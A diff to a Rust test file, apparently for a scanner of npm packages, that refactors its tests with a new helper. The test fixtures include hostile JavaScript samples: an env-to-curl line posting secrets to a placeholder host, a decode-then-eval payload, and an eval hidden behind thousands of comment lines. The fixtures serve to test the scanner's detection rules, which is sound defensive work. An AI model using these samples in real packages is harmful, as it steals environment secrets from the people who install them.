@@ -28,6 +28,11 @@ fn rules(findings: &[Finding]) -> Vec<&str> {
     findings.iter().map(|f| f.rule.as_str()).collect()
 }
 
+/// The rule ids of an analysis, owned (for an analysis that is not kept).
+fn owned_rules(analysis: &Analysis) -> Vec<String> {
+    analysis.findings.iter().map(|f| f.rule.clone()).collect()
+}
+
 fn manifest(scripts: &str) -> String {
     format!(
         "{{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {{\n{scripts}\n  }}\n}}\n"
@@ -60,10 +65,7 @@ fn a_release_script_is_not_install_time_code_but_what_postinstall_reaches_is() {
     let attack = manifest(
         "    \"fix_dist\": \"node -e 'console.log(1)' > dist/es/package.json\",\n    \"postinstall\": \"npm run fix_dist\"",
     );
-    let found = rules(&analyse(&[("package.json", &attack)]).findings)
-        .into_iter()
-        .map(str::to_string)
-        .collect::<Vec<_>>();
+    let found = owned_rules(&analyse(&[("package.json", &attack)]));
     assert!(
         found.iter().any(|r| r == "correlate/install-time-process"),
         "{found:?}"
@@ -122,10 +124,10 @@ fetch('https://cdn.example.com/x.json');
     }
     // The same words as code are what the rules exist for.
     let attack = "const s = String.fromCharCode(104, 105);\neval(s);\nrequire('child_process').execSync('cd /tmp; env | curl -d @- https://x.example');\n";
-    let found = rules(&analyse(&[("package.json", &manifest("")), ("index.js", attack)]).findings)
-        .into_iter()
-        .map(str::to_string)
-        .collect::<Vec<_>>();
+    let found = owned_rules(&analyse(&[
+        ("package.json", &manifest("")),
+        ("index.js", attack),
+    ]));
     for id in ["exfil/env-harvest", "correlate/decode-then-execute"] {
         assert!(found.iter().any(|r| r == id), "no {id} in {found:?}");
     }
@@ -135,11 +137,10 @@ fetch('https://cdn.example.com/x.json');
 fn comments_cannot_screen_the_code_behind_them() {
     // Documentation quoting a call is documentation...
     let documented = "/**\n * Like `eval(code)`, but sandboxed.\n */\nconst s = Buffer.from(p, 'base64').toString();\n";
-    let found =
-        rules(&analyse(&[("package.json", &manifest("")), ("index.js", documented)]).findings)
-            .into_iter()
-            .map(str::to_string)
-            .collect::<Vec<_>>();
+    let found = owned_rules(&analyse(&[
+        ("package.json", &manifest("")),
+        ("index.js", documented),
+    ]));
     assert!(
         !found.iter().any(|r| r == "correlate/decode-then-execute"),
         "{found:?}"
@@ -150,10 +151,10 @@ fn comments_cannot_screen_the_code_behind_them() {
         "{}const s = Buffer.from(p, 'base64').toString();\neval(s);\n",
         "// eval(s)\n".repeat(2000)
     );
-    let found = rules(&analyse(&[("package.json", &manifest("")), ("index.js", &screen)]).findings)
-        .into_iter()
-        .map(str::to_string)
-        .collect::<Vec<_>>();
+    let found = owned_rules(&analyse(&[
+        ("package.json", &manifest("")),
+        ("index.js", &screen),
+    ]));
     assert!(
         found.iter().any(|r| r == "correlate/decode-then-execute"),
         "{found:?}"
